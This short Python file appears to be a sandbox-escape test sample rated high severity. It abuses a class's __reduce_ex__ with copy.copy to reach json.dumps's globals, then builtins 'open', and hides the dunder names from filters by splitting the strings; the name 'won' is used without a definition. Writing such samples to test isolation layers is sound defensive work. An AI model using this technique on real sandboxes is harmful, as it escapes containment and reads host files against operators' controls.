# technique: copying asks a type's descriptor from the library's own frame
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import copy
import json

class Deputy:
    def __reduce_ex__(self, protocol):
        return (vars(type(won))["__glo" + "bals__"].__get__, (json.dumps,))

read_host(lambda: copy.copy(Deputy())["__built" + "ins__"]["open"])
